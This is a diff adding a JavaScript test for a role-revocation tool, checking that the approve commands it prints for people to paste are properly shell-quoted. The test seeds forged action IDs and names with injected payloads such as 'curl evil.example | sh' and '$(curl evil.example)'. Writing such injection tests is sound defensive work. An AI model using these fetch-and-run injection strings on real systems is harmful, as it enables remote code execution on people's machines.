@@ -96,6 +96,43 @@ describe.each([
     expect(await lab.iam.names(suspect)).toEqual([]);
   });
 
+  it('words a command for people to paste, or hides what waits', async () => {
+    const { deliver, run } = await place(revocation);
+    const { actionId = '' } = (await deliver(taken(await lab.iam.role(named('decoy-to-be-hidden'))))) ?? {};
+    const { intent } = await victim(named('pasted'));
+    await redisCli(lab.redis.port, [
+      'HSET',
+      'rw:caps',
+      "b:all'; curl evil.example | sh #",
+      `${Date.now()}|x`,
+    ]);
+    const made = {
+      state: 'pending',
+      by: 'x',
+      detail: '',
+      finding: null,
+      since: Date.now(),
+      changed: Date.now(),
+    };
+    const odd = '0; curl evil.example | sh';
+    const forged = {
+      [odd]: { ...made, intent: { ...intent, actionId: odd } },
+      '00000000000000f1': { ...made, intent: { ...intent, actionId: odd } },
+      '00000000000000f2': { ...made, intent: { ...intent, actionId: '00000000000000f2' }, since: 9e15 },
+      '00000000000000f3': { ...made, intent: { ...intent, target: { name: '$(curl evil.example)' } } },
+    };
+    for (const [id, record] of Object.entries(forged)) {
+      await write(id, JSON.stringify({ actionId: id, ...record }));
+      await redisCli(lab.redis.port, ['ZADD', 'rw:actions', String(Date.now()), id]);
+    }
+    const shown = await run('pending');
+    expect([shown.status, shown.stdout]).toEqual([0, expect.stringContaining(`approve ${actionId}\n`)]);
+    const checked = await run('doctor');
+    const commands = `${shown.stdout}${checked.stdout}`.match(/rolewarden (?:approve|reject|undo) .*evil.*/g);
+    const quoted = "rolewarden approve --breaker 'all'\\''; curl evil.example | sh #'";
+    expect(commands?.map((line) => line.slice(0, quoted.length))).toEqual([quoted, quoted]);
+  });
+
   it('marks a deny as undone, for the sweep to remove', async () => {
     const suspect = await lab.iam.role(named('decoy-not-undone'));
     const { deliver, run } = await place(revocation);
